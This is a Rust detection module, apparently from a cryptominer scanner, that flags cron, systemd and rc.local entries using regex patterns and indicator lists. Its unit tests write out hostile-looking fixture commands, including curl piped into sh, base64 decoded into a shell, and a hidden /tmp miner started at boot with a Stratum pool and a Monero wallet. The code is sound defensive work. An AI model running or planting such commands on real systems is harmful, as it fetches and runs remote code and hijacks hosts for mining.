//! Which persistence entries launch a miner: the judgement of the cron
//! lines, systemd Exec lines and rc.local lines observe records whole.
//!
//! A command is suspect when it downloads into a shell or decodes base64
//! into one, runs a program from a staging or hidden directory or one named
//! like a kernel thread, names a miner or campaign binary, or carries pool
//! arguments, a Stratum URL, a miner option or a Monero wallet; a file is
//! suspect when it is named like a miner, is a compiled program where a
//! script belongs, or is immutable. The names, schemes, options, wallet
//! pattern and directories are the indicators' (`rules/indicators.toml`),
//! the same the process signals use.
//!
//! Limits: commands are matched with patterns, not run through a shell
//! parser; an obfuscated line (variables, `eval` of computed text) escapes.

use std::sync::LazyLock;

use regex::Regex;

use super::signals::kernel_thread_name;
use crate::indicators::Indicators;
use crate::snapshot::PersistenceEntry;

/// A persistence entry that launches a miner, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Suspect<'a> {
    pub entry: &'a PersistenceEntry,
    /// One short phrase each.
    pub reasons: Vec<String>,
}

/// The entries that run `path` or name it in their command.
pub fn launching<'a>(entries: &'a [PersistenceEntry], path: &str) -> Vec<&'a PersistenceEntry> {
    entries
        .iter()
        .filter(|e| {
            e.programs.iter().any(|p| p == path) || (!path.is_empty() && e.command.contains(path))
        })
        .collect()
}

/// The suspect entries among `entries`, in their order. A file's own
/// reasons (its name, immutable, compiled) join each suspect command of it,
/// or, when none is, make its first entry suspect.
pub fn suspects<'a>(entries: &'a [PersistenceEntry], ind: &Indicators) -> Vec<Suspect<'a>> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < entries.len() {
        let path = &entries[i].path;
        let file: Vec<&PersistenceEntry> = entries[i..]
            .iter()
            .take_while(|e| &e.path == path)
            .collect();
        i += file.len();
        let first = file[0];
        if let Some(target) = &first.symlink_to {
            let mut reasons = name_reasons(first, ind);
            for r in path_reasons(target, ind) {
                push_unique(&mut reasons, r);
            }
            if !reasons.is_empty() {
                out.push(Suspect {
                    entry: first,
                    reasons,
                });
            }
            continue;
        }
        let mut file_reasons = name_reasons(first, ind);
        if first.compiled {
            file_reasons.push("a compiled program, not a script".to_string());
        }
        if first.immutable {
            file_reasons.push("immutable (chattr +i)".to_string());
        }
        let before = out.len();
        for e in file.iter().filter(|e| e.line > 0) {
            let mut reasons = command_reasons(e, ind);
            if e.at_reboot && !reasons.is_empty() {
                reasons.push("runs at boot (@reboot)".to_string());
            }
            if !reasons.is_empty() {
                for r in &file_reasons {
                    push_unique(&mut reasons, r.clone());
                }
                out.push(Suspect { entry: e, reasons });
            }
        }
        if out.len() == before && !file_reasons.is_empty() {
            out.push(Suspect {
                entry: first,
                reasons: file_reasons,
            });
        }
    }
    out
}

static PIPE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget|fetch|lwp-download|lwp-request|tftp)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl)\b",
    )
    .expect("static regex")
});
static SHELL_SUBST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:ba|da|z|k|a)?sh\s+(?:-c\s*["']?\$\(|<\s*\()\s*(?:curl|wget)\b"#)
        .expect("static regex")
});
static B64_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bbase64\s+(?:-[a-z]*d[a-z]*|--decode)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|da|z|k|a)?sh\b")
        .expect("static regex")
});
static POOL_ARG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|\s)(?:-o|--url)(?:\s+|=)\S+:\d{2,5}\b").expect("static regex")
});
static USER_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|\s)(?:-u|--user)(?:\s+|=)\S+").expect("static regex"));
static BACKGROUND_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|\s)(?:-B|--background)(?:\s|$)").expect("static regex"));

/// Why a command looks like it launches a miner.
pub fn command_reasons(e: &PersistenceEntry, ind: &Indicators) -> Vec<String> {
    // Snapshots of minerwatch before 0.2 hold only the line.
    let text = if e.command.is_empty() {
        e.text.as_str()
    } else {
        e.command.as_str()
    };
    let mut reasons: Vec<String> = Vec::new();
    if PIPE_SHELL.is_match(text) || SHELL_SUBST.is_match(text) {
        push_unique(&mut reasons, "downloads and pipes into a shell".to_string());
    }
    if B64_SHELL.is_match(text) {
        push_unique(
            &mut reasons,
            "decodes base64 and pipes into a shell".to_string(),
        );
    }
    for p in &e.programs {
        for r in path_reasons(p, ind) {
            push_unique(&mut reasons, r);
        }
    }
    for n in miner_names_in(text, ind) {
        push_unique(&mut reasons, format!("names the miner {n}"));
    }
    let lower = text.to_ascii_lowercase();
    let stratum = ind
        .stratum_schemes
        .iter()
        .any(|s| lower.contains(s.as_str()));
    let pool = POOL_ARG.is_match(text);
    if stratum {
        push_unique(&mut reasons, "has a stratum pool URL".to_string());
    }
    for word in text.split_whitespace() {
        let flag = word.split('=').next().unwrap_or(word);
        if let Some(f) = ind.miner_flags.iter().find(|f| *f == word || *f == flag) {
            push_unique(&mut reasons, format!("has the miner flag {f}"));
        }
    }
    if pool && USER_ARG.is_match(text) {
        push_unique(
            &mut reasons,
            "has pool arguments (-o host:port -u user)".to_string(),
        );
    }
    if BACKGROUND_ARG.is_match(text) && (stratum || pool) {
        push_unique(
            &mut reasons,
            "runs in the background (-B) with a pool".to_string(),
        );
    }
    if ind.find_wallet(text).is_some() {
        push_unique(&mut reasons, "has a Monero wallet address".to_string());
    }
    reasons
}

/// Reasons from the path of a launched program.
pub fn path_reasons(program: &str, ind: &Indicators) -> Vec<String> {
    let mut reasons = Vec::new();
    for dir in &ind.staging_dirs {
        if program
            .strip_prefix(dir.as_str())
            .is_some_and(|r| r.starts_with('/'))
        {
            reasons.push(format!("runs from {dir}"));
        }
    }
    let parts: Vec<&str> = program.split('/').filter(|c| !c.is_empty()).collect();
    if let Some((last, dirs)) = parts.split_last() {
        if program.contains('/') {
            if dirs
                .iter()
                .any(|d| d.starts_with('.') && *d != "." && *d != "..")
            {
                reasons.push("runs from a hidden directory".to_string());
            }
            if last.starts_with('.') && *last != "." && *last != ".." {
                reasons.push("runs a hidden file".to_string());
            }
        }
        if kernel_thread_name(&last.to_ascii_lowercase(), &ind.kernel_thread_prefixes) {
            reasons.push(format!(
                "runs a program named like a kernel thread ({last})"
            ));
        }
    }
    reasons
}

/// Reasons from a persistence file's name.
fn name_reasons(e: &PersistenceEntry, ind: &Indicators) -> Vec<String> {
    let name = basename(&e.path);
    let mut reasons = Vec::new();
    let lower = name.to_ascii_lowercase();
    if e.kind == "systemd" && lower.contains("miner") && lower.contains(".service") {
        reasons.push(format!("unit named like a miner ({name})"));
    }
    for n in miner_names_in(name, ind) {
        push_unique(&mut reasons, format!("file named like the miner {n}"));
    }
    reasons
}

/// Miner and campaign names (the indicators') that appear as a word of
/// `text`: "xmrig-6.21" counts, "systemd-sysupdate" does not.
pub fn miner_names_in<'a>(text: &str, ind: &'a Indicators) -> Vec<&'a str> {
    let lower = text.to_ascii_lowercase();
    let mut out: Vec<&str> = Vec::new();
    for word in lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-')) {
        for name in &ind.campaign_names {
            let hit = word == name.as_str()
                || word
                    .strip_prefix(name.as_str())
                    .is_some_and(|r| r.starts_with('-'));
            if hit && !out.contains(&name.as_str()) {
                out.push(name);
            }
        }
    }
    out
}

fn basename(path: &str) -> &str {
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
}

fn push_unique(v: &mut Vec<String>, s: String) {
    if !v.contains(&s) {
        v.push(s);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ind() -> Indicators {
        Indicators::embedded()
    }

    fn cmd(
        kind: &str,
        path: &str,
        line: u32,
        command: &str,
        programs: &[&str],
    ) -> PersistenceEntry {
        PersistenceEntry {
            kind: kind.into(),
            path: path.into(),
            line,
            text: command.into(),
            command: command.into(),
            programs: programs.iter().map(|p| p.to_string()).collect(),
            ..PersistenceEntry::default()
        }
    }

    fn reasons_of(entries: &[PersistenceEntry], needle: &str) -> Vec<String> {
        let ind = ind();
        suspects(entries, &ind)
            .into_iter()
            .find(|s| s.entry.text.contains(needle))
            .map(|s| s.reasons)
            .unwrap_or_else(|| panic!("no suspect with {needle:?}"))
    }

    #[test]
    fn downloads_into_a_shell_and_boot_miners() {
        let boot = PersistenceEntry {
            at_reboot: true,
            ..cmd(
                "cron",
                "/var/spool/cron/crontabs/root",
                3,
                "/tmp/.X25-unix/.rsync/c/kswapd0 -B -o stratum+tcp://pool:3333 -u 4Abc",
                &["/tmp/.X25-unix/.rsync/c/kswapd0"],
            )
        };
        let entries = vec![
            cmd(
                "cron",
                "/var/spool/cron/crontabs/root",
                2,
                "curl -fsSL http://x/y.sh | sh",
                &["curl", "sh"],
            ),
            boot,
            cmd(
                "cron",
                "/var/spool/cron/crontabs/root",
                4,
                "/usr/sbin/logrotate /etc/logrotate.conf",
                &["/usr/sbin/logrotate"],
            ),
            cmd(
                "cron",
                "/etc/crontab",
                3,
                "echo ZWNobyBoaQ== | base64 -d | sh",
                &["echo", "base64", "sh"],
            ),
        ];
        assert_eq!(
            reasons_of(&entries, "curl"),
            ["downloads and pipes into a shell"]
        );
        let boot = reasons_of(&entries, "kswapd0");
        for r in [
            "runs from /tmp",
            "runs from a hidden directory",
            "runs a program named like a kernel thread (kswapd0)",
            "has a stratum pool URL",
            "has pool arguments (-o host:port -u user)",
            "runs in the background (-B) with a pool",
            "runs at boot (@reboot)",
        ] {
            assert!(boot.iter().any(|x| x == r), "{r} missing from {boot:?}");
        }
        assert_eq!(
            reasons_of(&entries, "base64"),
            ["decodes base64 and pipes into a shell"]
        );
        assert_eq!(suspects(&entries, &ind()).len(), 3);
    }

    #[test]
    fn a_miner_unit_and_the_miner_it_names() {
        let entries = vec![
            cmd(
                "systemd",
                "/etc/systemd/system/sys_miner.service",
                4,
                "/dev/shm/.x/kdevtmpfsi",
                &["/dev/shm/.x/kdevtmpfsi"],
            ),
            cmd(
                "systemd",
                "/home/alice/.config/systemd/user/dbus-x.service",
                2,
                "/bin/sh -c /home/alice/.cache/xmrig-6.21/xmrig --donate-level 1 -o pool.example:443 -u 4Abc",
                &["/home/alice/.cache/xmrig-6.21/xmrig"],
            ),
            cmd(
                "systemd",
                "/etc/systemd/system/ssh.service",
                2,
                "/usr/sbin/sshd -D",
                &["/usr/sbin/sshd"],
            ),
        ];
        let unit = reasons_of(&entries, "kdevtmpfsi");
        for r in [
            "runs from /dev/shm",
            "runs from a hidden directory",
            "names the miner kdevtmpfsi",
            "unit named like a miner (sys_miner.service)",
        ] {
            assert!(unit.iter().any(|x| x == r), "{r} missing from {unit:?}");
        }
        let user = reasons_of(&entries, "xmrig");
        for r in [
            "names the miner xmrig",
            "has the miner flag --donate-level",
            "has pool arguments (-o host:port -u user)",
        ] {
            assert!(user.iter().any(|x| x == r), "{r} missing from {user:?}");
        }
        assert_eq!(suspects(&entries, &ind()).len(), 2);
    }

    #[test]
    fn ordinary_lines_are_not_suspect() {
        let entries = vec![
            cmd(
                "cron",
                "/etc/crontab",
                2,
                "root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                &["test", "cd", "run-parts"],
            ),
            cmd(
                "cron",
                "/etc/cron.daily/logrotate",
                3,
                "TMP=$(mktemp /tmp/x.XXXX)",
                &["mktemp"],
            ),
            cmd(
                "systemd",
                "/usr/lib/systemd/system/systemd-sysupdate.service",
                2,
                "/usr/lib/systemd/systemd-sysupdate update",
                &["/usr/lib/systemd/systemd-sysupdate"],
            ),
            cmd(
                "cron",
                "/etc/cron.d/fetch",
                1,
                "curl -o /tmp/f http://host:8080/f -u u:p",
                &["curl"],
            ),
        ];
        assert_eq!(suspects(&entries, &ind()), Vec::new());
    }

    #[test]
    fn a_files_own_reasons_join_its_commands_or_stand_alone() {
        let immutable = |e: PersistenceEntry| PersistenceEntry {
            immutable: true,
            ..e
        };
        let entries = vec![
            immutable(cmd(
                "cron",
                "/etc/cron.d/sync",
                1,
                "root /usr/sbin/logrotate /etc/logrotate.conf",
                &["/usr/sbin/logrotate"],
            )),
            immutable(PersistenceEntry {
                kind: "cron".into(),
                path: "/etc/cron.d/kthreaddk".into(),
                ..PersistenceEntry::default()
            }),
            PersistenceEntry {
                kind: "rc.local".into(),
                path: "/etc/rc.local".into(),
                symlink_to: Some("/tmp/.x/payload".into()),
                text: "symlink -> /tmp/.x/payload".into(),
                ..PersistenceEntry::default()
            },
        ];
        let s = suspects(&entries, &ind());
        assert_eq!(s.len(), 3, "{s:#?}");
        assert_eq!(
            (s[0].entry.line, s[0].reasons.as_slice()),
            (1, &["immutable (chattr +i)".to_string()][..])
        );
        assert_eq!(
            s[1].reasons,
            [
                "file named like the miner kthreaddk",
                "immutable (chattr +i)"
            ]
        );
        assert_eq!(
            s[2].reasons,
            ["runs from /tmp", "runs from a hidden directory"]
        );
    }

    #[test]
    fn names_flags_and_wallets_come_from_the_indicators() {
        let ind = ind();
        assert_eq!(
            miner_names_in(
                "/opt/xmrig-6.21/xmrig systemd-sysupdate KINSING .kdevtmpfsi",
                &ind
            ),
            ["xmrig", "kinsing", "kdevtmpfsi"]
        );
        // One list for processes and persistence: a name only the indicator
        // file has, a scheme only it has.
        assert!(miner_names_in("/usr/bin/watchbog", &ind).contains(&"watchbog"));
        let e = cmd(
            "cron",
            "/etc/crontab",
            1,
            "/opt/w -o stratum1+tcp://p:3333",
            &["/opt/w"],
        );
        assert!(command_reasons(&e, &ind).contains(&"has a stratum pool URL".to_string()));
        let wallet = "-u 4ApM6hUHyYx16547k5sn3zRND22RhkaWd4JdemFQyTKQ36ixnHzMV4LRzyFP6XEdkjMTZqHsQA5DhDZWLchXHcKf4dKqcj7";
        let e = cmd("cron", "/etc/crontab", 1, wallet, &[]);
        assert!(command_reasons(&e, &ind).contains(&"has a Monero wallet address".to_string()));
        let e = cmd(
            "cron",
            "/etc/crontab",
            1,
            "sh -c \"$(curl -fsSL http://x/i.sh)\"",
            &[],
        );
        assert_eq!(
            command_reasons(&e, &ind),
            ["downloads and pipes into a shell"]
        );
    }
}
